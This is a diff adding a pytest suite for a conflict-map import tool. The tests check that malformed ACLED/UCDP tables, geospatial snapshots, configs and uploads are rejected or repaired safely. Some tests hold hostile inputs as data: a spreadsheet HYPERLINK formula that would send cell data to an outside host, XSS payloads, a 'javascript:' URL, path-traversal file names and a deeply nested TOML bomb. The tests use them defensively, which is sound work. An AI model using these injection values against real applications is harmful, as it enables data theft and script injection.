+         "event_date '2017-02-30' is not a date (YYYY-MM-DD)"),
+    Case("ambiguous-event-date", [acled(acled_row(date="03/04/2017"))], "error", "acled.csv", L2,
+         "event_date '03/04/2017' is not a date (YYYY-MM-DD)"),
+    Case("event-after-theatre", [acled(acled_row(date="2018-01-02"))], "error", "acled.csv", L2,
+         "date 2018-01-02 is outside the theatre 2017-01-01 .. 2017-12-31"),
+    Case("ucdp-dates-backwards", [ucdp(ucdp_row(start="2017-03-05", end="2017-03-01"))], "error", "ged.csv",
+         "line 2 (123)", "dates run backwards: date_end 2017-03-01 is before date_start 2017-03-05"),
+    Case("event-swapped-lat-lon", [acled(acled_row(lat="38.95", lon="35.95"))], "error", "acled.csv", L2,
+         "location 'Tabqa' (38.95 N, 35.95 E) lies outside the area of interest but inside it with longitude and "
+         "latitude swapped"),
+    Case("event-outside-area", [acled(acled_row(lat="36.5", lon="40.5"))], "error", "acled.csv", L2,
+         "location 'Tabqa' (36.5 N, 40.5 E) lies outside the area of interest"),
+    Case("comma-decimal", [acled(acled_row(lat="35,95"))], "error", "acled.csv", L2,
+         "latitude '35,95' is not a decimal number (e.g. 35.95)"),
+    Case("dms-coordinate", [acled(acled_row(lat="35°57'N"))], "error", "acled.csv", L2,
+         "latitude \"35°57'N\" is not a decimal number (e.g. 35.95)"),
+    Case("unknown-place", [acled(acled_row(lat="", lon=""))], "error", "acled.csv", L2,
+         "unknown place 'Tabqa': the row has no latitude/longitude"),
+    Case("duplicate-event-id", [acled(acled_row(), acled_row(date="2017-02-04"))], "error", "acled.csv",
+         "line 3 (SYR1)", "duplicate event id 'SYR1' (first in acled.csv line 2 (SYR1))"),
+    Case("csv-non-utf8", [raw("acled.csv", (ACLED_HEADER + "\n" + acled_row(location="Ma'dan")).encode()
+                              .replace(b"Ma'dan", b"Ma\xe9dan"))],
+         "error", "acled.csv", "file", "re:not UTF-8 text: byte 0xe9 at position \\d+"),
+    Case("csv-nul-bytes", [raw("acled.csv", ACLED_HEADER + "\n\x00\x00")], "error", "acled.csv", "file",
+         "content is something else, not CSV text as its extension says"),
+    Case("csv-unknown-layout", [raw("events.csv", "when,where\n2017-01-01,Raqqa\n")], "error", "events.csv", "header",
+         "not an ACLED or UCDP GED table: missing ACLED column(s) event_id_cnty, event_date, event_type, actor1, "
+         "location, latitude, longitude"),
+    Case("csv-semicolons", [raw("events.csv", ACLED_HEADER.replace(",", ";") + "\n")], "error", "events.csv", "header",
+         "not an ACLED or UCDP GED table: missing ACLED column(s) event_id_cnty, event_date, event_type, actor1, "
+         "location, latitude, longitude (the header has no commas: save the table comma-separated)"),
+    Case("csv-extra-fields", [acled(acled_row() + ",surplus")], "error", "acled.csv", "line 2",
+         "more fields than the header has"),
+    Case("too-many-rows", [acled(acled_row(), acled_row("SYR2"), acled_row("SYR3"))], "error", "acled.csv", "file",
+         "more than 2 rows", patch={"MAX_ROWS": 2}),
+    Case("csv-huge-field", [acled(acled_row(notes="x" * 200_000))], "error", "acled.csv", "line 2",
+         "cannot be read as CSV: field larger than field limit (131072)"),
+    Case("long-text-cut", [acled(acled_row(notes="y" * 3000))], "warning", "acled.csv", L2,
+         "notes: longer than 2000 characters, cut"),
+    Case("csv-header-only", [acled()], "error", "acled.csv", "file", "has no rows"),
+    Case("geojson-no-features", [gj(SNAP)], "error", SNAP, "file", "has no polygon features"),
+    Case("kml-no-placemarks", [raw("empty.kml", kml())], "error", "empty.kml", "file", "has no polygon features"),
+    Case("point-skipped-by-config", [gj(SNAP, feat(WEST), feat({"type": "Point", "coordinates": [38.95, 35.95]}))],
+         "warning", SNAP, "feature 1", "Point skipped (inputs.skip_other_geometries)",
+         config=CONFIG + "\n[inputs]\nskip_other_geometries = true\n"),
+    # --- config
+    Case("config-dates-backwards", [GOOD_SNAPSHOT], "error", "theatre.toml", "start/end",
+         "dates run backwards: start 2017-12-31 is after end 2017-01-01",
+         config=CONFIG.replace("start = 2017-01-01", "start = 2017-12-31")
+         .replace('end = "2017-12-31"', 'end = "2017-01-01"')),
+    Case("config-map-to-unknown-id", [GOOD_SNAPSHOT], "error", "theatre.toml", "faction_map.Daesh",
+         "maps to 'IS', which is not a faction id", config=CONFIG.replace('"Daesh" = "ISIS"', '"Daesh" = "IS"')),
+    Case("config-bad-colour", [GOOD_SNAPSHOT], "error", "theatre.toml", "factions[1]",
+         "color 'black' is not a #rrggbb colour", config=CONFIG.replace('"#3a3a3a"', '"black"')),
+    Case("config-javascript-source", [GOOD_SNAPSHOT], "error", "theatre.toml", "source_url",
+         "'javascript:alert(1)' must be an http(s) URL: the default source of every row",
+         config=CONFIG.replace("https://example.org/source", "javascript:alert(1)")),
+    Case("config-deeply-nested-toml", [GOOD_SNAPSHOT], "error", "theatre.toml", "file",
+         "TOML nested deeper than 64 levels", config='name = "x"\na = ' + "[" * 100_000 + "]" * 100_000),
+    Case("config-reserved-faction-id", [GOOD_SNAPSHOT], "error", "theatre.toml", "factions[1]",
+         "'no reporting' is reserved for ground no snapshot covers",
+         config=CONFIG.replace('id = "ISIS"', 'id = "no reporting"')),
+    Case("config-unknown-input-crs", [GOOD_SNAPSHOT], "error", "theatre.toml", "inputs.crs",
+         "unknown CRS 'EPSG:0': reproject to lon/lat WGS84 (EPSG:4326) before importing",
+         config=CONFIG + '\n[inputs]\ncrs = "EPSG:0"\n'),
+]  # fmt: skip
+
+
+def _matches(p: Problem, case: Case) -> bool:
+    if (p.file, p.item) != (case.file, case.item):
+        return False
+    if case.message.startswith("re:"):
+        return re.fullmatch(case.message[3:], p.message, flags=re.S) is not None
+    return p.message == case.message
+
+
+@pytest.mark.parametrize("case", CORPUS, ids=[c.id for c in CORPUS])
+def test_corpus(case: Case, existing, tmp_path, monkeypatch):
+    folder, before = existing
+    for name, value in case.patch.items():
+        monkeypatch.setattr(gc, name, value)
+    inputs = case.inputs(tmp_path) if callable(case.inputs) else case.inputs
+    # Aim at the existing theatre: a bad input must leave it exactly as it was.
+    target = folder if case.kind == "error" else tmp_path / "other"
+    try:
+        imported = imports.prepare(config_file(case.config), inputs)
+        imports.save(imported, target, replace=True)
+    except DatasetError as exc:
+        assert case.kind == "error", exc.problems
+        assert any(_matches(p, case) for p in exc.problems), exc.problems
+    else:
+        assert case.kind == "warning", f"accepted: {imported.warnings}"
+        assert any(_matches(p, case) for p in imported.warnings), imported.warnings
+        load_dataset(target)
+    assert tree(folder) == before
+
+
+def test_corpus_is_large_enough():
+    assert len(CORPUS) >= 30
+    assert len({c.id for c in CORPUS}) == len(CORPUS)
+
+
+@pytest.mark.parametrize("crs", ["urn:ogc:def:crs:OGC:1.3:CRS84", "EPSG:4326", "urn:ogc:def:crs:EPSG::4326"])
+def test_qgis_crs84_member_is_accepted_silently(crs):
+    member = {"type": "name", "properties": {"name": crs}}
+    qgis = raw(SNAP, json.dumps({**fc(feat(WEST), feat(EAST, "ISIS")), "name": "2017-02-01", "crs": member}))
+    imported = imports.prepare(config_file(), [qgis])
+    assert imported.warnings == [] and imported.counts["snapshot polygons"] == 2
+
+
+def test_a_byte_order_mark_is_accepted(tmp_path):
+    bom = b"\xef\xbb\xbf"
+    inputs = [InputFile(SNAP, bom + GOOD_SNAPSHOT.data), InputFile("acled.csv", bom + acled(acled_row()).data)]
+    imported = imports.prepare(InputFile("theatre.toml", bom + CONFIG.encode()), inputs)
+    assert imported.counts["events"] == 1 and imported.counts["snapshot polygons"] == 2
+
+
+def test_repairs_are_stored_repaired(tmp_path):
+    snap = gj(SNAP, feat({"type": "Polygon", "coordinates": [WEST["coordinates"][0][:-1]]}), feat(EAST, "ISIS"))
+    imports.save(imports.prepare(config_file(), [snap]), tmp_path / "t")
+    ds = load_dataset(tmp_path / "t")
+    assert all(o.geometry.is_valid and o.geometry.exterior.is_ccw for o in ds.overrides)
+
+
+def test_hostile_text_is_stored_as_typed(tmp_path):
+    notes = '=HYPERLINK("http://x/?"&A1,"click") <img src=x onerror=alert(1)>'
+    imported = imports.prepare(config_file(), [acled(acled_row(notes=notes, location="<b>Tabqa</b>"))])
+    imports.save(imported, tmp_path / "t")
+    (event,) = load_dataset(tmp_path / "t").events
+    assert event.detail == f"SDF v ISIS. {notes} Source: SOHR."
+    assert event.title == "Armed clash at <b>Tabqa</b>"
+
+
+def test_every_problem_is_reported_not_just_the_first():
+    inputs = [gj(SNAP, feat(WEST, "Martians"), feat(None)), acled(acled_row(lat="x"), acled_row("SYR2", date="no"))]
+    with pytest.raises(DatasetError) as err:
+        imports.prepare(config_file(), inputs)
+    found = {(p.file, p.item) for p in err.value.problems}
+    assert found == {(SNAP, F0), (SNAP, "feature 1"), ("acled.csv", L2), ("acled.csv", "line 3 (SYR2)")}
+
+
+def test_a_file_level_problem_is_reported_once():
+    with pytest.raises(DatasetError) as err:
+        imports.prepare(config_file(), [gj("2017-02-30.geojson", feat(WEST), feat(EAST, "ISIS"))])
+    message = "date '2017-02-30' in the file name is not a real date"
+    assert err.value.problems == [Problem("2017-02-30.geojson", "file", message)]
+
+
+def test_save_refuses_to_replace_a_folder_that_is_not_a_dataset(tmp_path):
+    (tmp_path / "notes").mkdir()
+    (tmp_path / "notes" / "keep.txt").write_text("mine")
+    with pytest.raises(DatasetError) as err:
+        imports.save(imports.prepare(config_file(), [GOOD_SNAPSHOT]), tmp_path / "notes", replace=True)
+    assert err.value.problems == [Problem("notes", "folder", "exists and is not a dataset folder: not replaced")]
+    assert (tmp_path / "notes" / "keep.txt").read_text() == "mine"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes"]  # no temp folder left behind
+
+
+def test_a_good_import_replaces_only_with_replace(existing):
+    folder, before = existing
+    snap = gj("2017-05-01.geojson", feat(sq(*AOI), "SDF"))
+    with pytest.raises(DatasetError):
+        imports.save(imports.prepare(config_file(), [snap]), folder)
+    assert tree(folder) == before
+    imports.save(imports.prepare(config_file(), [snap]), folder, replace=True)
+    assert len(load_dataset(folder).overrides) == 1
+    assert [p.name for p in folder.parent.iterdir()] == ["existing"]
+
+
+# ---------------------------------------------------------------------------------------------------------
+# command line
+
+
+def run(*args: str) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "-m", "layers", *args], cwd=ROOT, capture_output=True, text=True, timeout=300
+    )
+
+
+def _write(folder: Path, *files: InputFile) -> list[Path]:
+    folder.mkdir(parents=True, exist_ok=True)
+    for f in files:
+        (folder / f.name).write_bytes(f.data)
+    return [folder / f.name for f in files]
+
+
+def test_cli_import_then_validate(tmp_path):
+    (cfg,) = _write(tmp_path, config_file())
+    _write(tmp_path / "snaps", GOOD_SNAPSHOT, gj("2017-03-01.geojson", feat(sq(*AOI), "SDF")))
+    (table,) = _write(tmp_path, acled(acled_row()))
+    out = run("import", "--config", str(cfg), "--out", str(tmp_path / "t"), str(tmp_path / "snaps"), str(table))
+    assert out.returncode == 0, out.stderr
+    assert out.stdout == (
+        f"Imported 'Test theatre' into {tmp_path / 't'}: 3 snapshot polygons, 2 snapshot dates, 1 events, "
+        "4 places; 0 warning(s)\n"
+    )
+    check = run("validate", str(tmp_path / "t"))
+    assert check.returncode == 0 and check.stdout.startswith(f"OK {tmp_path / 't'}: 4 places"), check.stderr
+
+
+def test_cli_validate_inputs_lists_errors_and_warnings(tmp_path):
+    (cfg,) = _write(tmp_path, config_file())
+    bad = gj(SNAP, feat({"type": "Polygon", "coordinates": [WEST["coordinates"][0][:-1]]}), feat(WEST, "Martians"))
+    paths = _write(tmp_path / "snaps", bad)
+    out = run("validate", "--config", str(cfg), *map(str, paths))
+    assert out.returncode == 1
+    assert out.stderr.splitlines() == [
+        f"WARNING {SNAP}: {F0}: ring was not closed (first position != last): closed it",
+        f"ERROR {SNAP}: feature 1: unknown faction 'Martians': not a faction id (SDF, ISIS) or in faction_map",
+        "1 problem(s); nothing imported.",
+    ]
+
+
+def test_cli_validate_inputs_without_config(tmp_path):
+    paths = _write(tmp_path, GOOD_SNAPSHOT, acled(acled_row()))
+    out = run("validate", *map(str, paths))
+    assert out.returncode == 0, out.stderr
+    assert out.stdout.startswith("OK 2 input file(s) (without a config")
+
+
+def test_cli_failed_import_leaves_the_existing_folder(tmp_path, existing):
+    folder, before = existing
+    (cfg,) = _write(tmp_path, config_file())
+    (bad,) = _write(tmp_path / "in", raw(SNAP, "{NaN"))
+    out = run("import", "--config", str(cfg), "--out", str(folder), "--replace", str(bad))
+    assert out.returncode == 1
+    assert out.stderr.splitlines()[-1] == "1 problem(s); nothing imported."
+    assert tree(folder) == before
+
+
+def test_cli_reports_a_huge_file_before_reading_it(tmp_path):
+    (cfg,) = _write(tmp_path, config_file())
+    huge = tmp_path / "2017-02-01.geojson"
+    with huge.open("wb") as fh:
+        fh.truncate(21 * 2**20)  # sparse: nothing is written or read
+    out = run("import", "--config", str(cfg), "--out", str(tmp_path / "t"), str(huge))
+    assert out.returncode == 1
+    assert f"ERROR {SNAP}: file: larger than 20 MiB" in out.stderr.splitlines()
+    assert not (tmp_path / "t").exists()
+
+
+def test_cli_skips_the_config_inside_an_input_folder(tmp_path):
+    (cfg,) = _write(tmp_path / "all", config_file())
+    _write(tmp_path / "all", GOOD_SNAPSHOT)
+    out = run("import", "--config", str(cfg), "--out", str(tmp_path / "t"), str(tmp_path / "all"))
+    assert out.returncode == 0, out.stderr
+
+
+def test_cli_usage_errors_exit_2(tmp_path):
+    out = run("import", "--out", str(tmp_path / "t"), "x.geojson")
+    assert out.returncode == 2 and "--config" in out.stderr
+
+
+# ---------------------------------------------------------------------------------------------------------
+# upload in the app (the callback called as a plain function)
+
+
+def data_url(f: InputFile) -> str:
+    return "data:application/octet-stream;base64," + base64.b64encode(f.data).decode()
+
+
+def upload(*files: InputFile, names: list | None = None):
+    return handle_upload([data_url(f) for f in files], names if names is not None else [f.name for f in files])
+
+
+def texts(component) -> list[str]:
+    """Every string in a component tree (what the page shows as text)."""
+    if isinstance(component, str):
+        return [component]
+    if isinstance(component, list):
+        return [t for c in component for t in texts(c)]
+    children = getattr(component, "children", None)
+    return texts(children) if children is not None else []
+
+
+def links(component) -> list[str]:
+    if isinstance(component, list):
+        return [h for c in component for h in links(c)]
+    own = [component.href] if getattr(component, "href", None) else []
+    children = getattr(component, "children", None)
+    return own + (links(children) if isinstance(children, list) else [])
+
+
+@pytest.fixture
+def instance(tmp_path, monkeypatch) -> Path:
+    monkeypatch.setenv("RAQQA_INSTANCE", str(tmp_path / "instance"))
+    return tmp_path / "instance"
+
+
+def test_upload_imports_and_links_to_the_theatre(instance):
+    children, contents = upload(config_file(), GOOD_SNAPSHOT, acled(acled_row()))
+    assert contents is None  # cleared: the files are not sent again
+    assert links(children) == ["/?theatre=test-theatre"]
+    assert texts(children)[0] == "Imported Test theatre: 2 snapshot polygons, 1 snapshot dates, 1 events, 3 places."
+    folder = theatre_folder("test-theatre")
+    assert folder == instance / "theatres" / "test-theatre"
+    assert len(load_dataset(folder).overrides) == 2
+    assert sorted(p.name for p in folder.parent.iterdir()) == ["test-theatre"]  # no temp folder left
+    manifest = json.loads((folder / "sources" / "upload" / "manifest.json").read_text())
+    assert [(m["file"], m["name"]) for m in manifest] == [
+        ("01.toml", "theatre.toml"),
+        ("02.geojson", SNAP),
+        ("03.csv", "acled.csv"),
+    ]
+    assert (folder / "sources" / "upload" / "02.geojson").read_bytes() == GOOD_SNAPSHOT.data
+
+
+def test_upload_shows_flagged_repairs(instance):
+    snap = gj(SNAP, feat({"type": "Polygon", "coordinates": [WEST["coordinates"][0][:-1]]}))
+    children, _ = upload(config_file(), snap)
+    assert f"{SNAP}: {F0}: ring was not closed (first position != last): closed it" in texts(children)
+
+
+def test_upload_failure_lists_every_problem_as_text(instance):
+    upload(config_file(), GOOD_SNAPSHOT)
+    folder = theatre_folder("test-theatre")
+    before = tree(folder)
+    hostile = "<img src=x onerror=alert(1)>"
+    children, contents = upload(
+        config_file(CONFIG.replace('name = "Test theatre"', 'name = "Other"')),
+        gj(SNAP, feat(WEST, hostile), feat(None)),
+    )
+    assert contents is None and links(children) == []
+    shown = texts(children)
+    assert shown == [
+        "Not imported: 2 problem(s). Nothing was written.",
+        f"{SNAP}: {F0}: unknown faction '{hostile}': not a faction id (SDF, ISIS) or in faction_map",
+        f"{SNAP}: feature 1: has no geometry (null)",
+    ]
+    assert theatre_folder("other") is None
+    assert tree(folder) == before
+
+
+def test_upload_never_replaces_an_imported_theatre(instance):
+    upload(config_file(), GOOD_SNAPSHOT)
+    folder = theatre_folder("test-theatre")
+    before = tree(folder)
+    children, _ = upload(config_file(), gj("2017-05-01.geojson", feat(sq(*AOI))))
+    assert texts(children)[1] == (
+        "theatre.toml: slug: a theatre 'test-theatre' already exists: set another slug in the config"
+    )
+    assert tree(folder) == before
+
+
+@pytest.mark.parametrize(
+    "contents, names, message",
+    [
+        (None, None, "upload: files: no files received"),
+        ({"$ne": 1}, ["a.geojson"], "upload: files: no files received"),
+        (["data:text/plain;base64,@@@"], [SNAP], f"{SNAP}: file: not a base64 data URL: the upload is damaged"),
+        (["no comma here"], ["theatre.toml"], "theatre.toml: file: not a base64 data URL: the upload is damaged"),
+        ([data_url(GOOD_SNAPSHOT)], [SNAP],
+         "upload: config: upload exactly one config file (.toml or .json); found none"),
+        ([data_url(config_file())] * 2, ["a.toml", "b.toml"],
+         "upload: config: upload exactly one config file (.toml or .json); found a.toml, b.toml"),
+        ([data_url(config_file()), data_url(raw("x.png", b"\x89PNG\r\n\x1a\n"))], ["theatre.toml", "../../x.png"],
+         "x.png: file: unsupported file type '.png': expected .geojson, .gpkg, .kml, .kmz or .csv"),
+    ],
+)  # fmt: skip
+def test_upload_rejects_bad_requests(instance, contents, names, message):
+    children, _ = handle_upload(contents, names)
+    assert message in texts(children)
+    assert not (instance / "theatres").exists() or not any((instance / "theatres").iterdir())
+
+
+def test_upload_refuses_more_theatres_than_the_limit(instance, monkeypatch):
+    monkeypatch.setattr(upload_module, "MAX_THEATRES", 1)
+    upload(config_file(), GOOD_SNAPSHOT)
+    children, _ = upload(config_file(CONFIG.replace('name = "Test theatre"', 'name = "Second"')), GOOD_SNAPSHOT)
+    assert texts(children)[1] == "upload: theatres: already 1 imported theatres: remove some"
+    assert theatre_folder("second") is None
+
+
+def test_upload_size_is_checked_before_decoding(instance, monkeypatch):
+    monkeypatch.setattr(upload_module, "MAX_REQUEST_BYTES", 100)
+    children, _ = upload(config_file(), GOOD_SNAPSHOT)
+    assert texts(children)[1] == "upload: files: larger than 20 MiB in all"
+
+
+def test_upload_accepts_a_json_config_beside_geojson(instance):
+    cfg = {
+        "name": "JSON upload",
+        "start": "2017-01-01",
+        "end": "2017-12-31",
+        "source_url": "https://example.org/",
+        "aoi": {"bbox": list(AOI)},
+        "factions": [{"id": "SDF", "color": "#e8b70e"}, {"id": "ISIS", "color": "#3a3a3a"}],
+        "faction_map": {"Daesh": "ISIS"},
+    }
+    children, _ = upload(raw("theatre.json", json.dumps(cfg)), GOOD_SNAPSHOT)
+    assert links(children) == ["/?theatre=json-upload"]
+
+
+@pytest.mark.parametrize(
+    "slug", ["../theatres/x", "test-theatre\n", "Test-theatre", "", "-x", "a" * 64, "a/b", None, 5, "x"]
+)
+def test_theatre_folder_accepts_only_valid_existing_slugs(instance, slug):
+    upload(config_file(), GOOD_SNAPSHOT)
+    assert theatre_folder("test-theatre") is not None
+    assert theatre_folder(slug) is None
+
+
+@pytest.mark.parametrize(
+    "raw_name, shown",
+    [("../../geodata/base.geojson", "base.geojson"), ("C:\\x\\a.csv", "a.csv"), ("a\x00b\u202e.kml", "ab.kml"),
+     ("", "file 1"), (None, "file 1"), ("n" * 300, "n" * 100)],
+)  # fmt: skip
+def test_client_file_names_are_only_shown(raw_name, shown):
+    assert display_name(raw_name, 0) == shown
+
+
+# ---------------------------------------------------------------------------------------------------------
+# no crashes: damaged copies of good inputs give DatasetError or import, never anything else
+
+
+def _damaged(data: bytes, seed: int) -> bytes:
+    rng = random.Random(seed)
+    buf = bytearray(data)
+    how = seed % 4
+    if how == 0:  # flip bytes
+        for _ in range(rng.randint(1, 8)):
+            buf[rng.randrange(len(buf))] = rng.randrange(256)
+    elif how == 1:  # cut short
+        del buf[rng.randrange(1, len(buf)) :]
+    elif how == 2:  # insert structural characters
+        for _ in range(rng.randint(1, 4)):
+            buf.insert(rng.randrange(len(buf)), rng.choice(b'{}[],":<>&\\\n\x00'))
+    else:  # duplicate a slice
+        i = rng.randrange(len(buf))
+        buf[i:i] = buf[max(0, i - 40) : i]
+    return bytes(buf)
+
+
+def _good_inputs(tmp_path) -> list[InputFile]:
+    return [
+        GOOD_SNAPSHOT,
+        gpkg(tmp_path, [{"date": "2017-03-01", "faction": "SDF", "geometry": box(38.9, 35.9, 39.0, 36.0)}]),
+        raw("2017-04-01.kml", kml(placemark("A", "SDF", ring(38.9, 35.9, 39.0, 36.0)))),
+        InputFile("2017-05-01.kmz", kmz({"doc.kml": kml(placemark("B", "ISIS", ring(*EAST_BOX))).encode()})),
+        acled(acled_row()),
+        ucdp(ucdp_row()),
+    ]
+
+
+@pytest.mark.parametrize("seed", range(24))
+def test_damaged_inputs_never_crash(tmp_path, seed):
+    good = _good_inputs(tmp_path)
+    for i, f in enumerate(good):
+        damaged = [g if j != i else InputFile(f.name, _damaged(f.data, seed * 31 + i)) for j, g in enumerate(good)]
+        try:
+            imports.save(imports.prepare(config_file(), damaged), tmp_path / f"out-{i}", replace=True)
+        except DatasetError as exc:
+            assert exc.problems and all(isinstance(p, Problem) for p in exc.problems)
+
+
+@pytest.mark.parametrize("seed", range(12))
+def test_damaged_configs_never_crash(seed):
+    cfg = InputFile("theatre.toml", _damaged(CONFIG.encode(), seed))
+    try:
+        imports.prepare(cfg, [GOOD_SNAPSHOT])
+    except DatasetError as exc:
+        assert exc.problems
+
+
+def test_the_documented_config_example_is_valid():
+    text = (ROOT / "docs" / "import.md").read_text()
+    example = re.search(r"```toml\n(.*?)```", text, flags=re.S).group(1)
+    found = gc.Findings()
+    config = read_config(InputFile("theatre.toml", example.encode()), found)
+    assert found.errors == [] and config is not None
+    assert (config.slug, config.faction_id("daesh"), config.faction_id("YPG/SDF")) == ("raqqa-analyst", "ISIS", "SDF")
+    assert config.input_crs == "EPSG:32637" and config.skip_other_geometries is False
+
+
+def test_an_imported_theatre_renders_in_the_dashboard(tmp_path):
+    from layers import dashboard
+    from layers._context import context
+    from layers.core.timeline import state_on
+
+    snaps = [GOOD_SNAPSHOT, gj("2017-03-01.geojson", feat(sq(*AOI), "SDF"))]
+    imports.save(imports.prepare(config_file(), [*snaps, acled(acled_row()), ucdp(ucdp_row())]), tmp_path / "t")
+    ctx = context(str(tmp_path / "t"))
+    dashboard.page(ctx, "t")
+    holders = ctx.tables["holders"]
+    for day, expected in ((30, {}), (33, {"SDF": 0.5, "ISIS": 0.5}), (70, {"SDF": 1.0})):
+        areas = dict(zip(holders, state_on(ctx.tables, day)["km2"], strict=True))
+        total = sum(areas.values())
+        assert total == pytest.approx(km2(*AOI), rel=2e-3), day
+        for holder in ("SDF", "ISIS"):
+            assert areas[holder] / total == pytest.approx(expected.get(holder, 0.0), abs=1e-3), (day, holder)
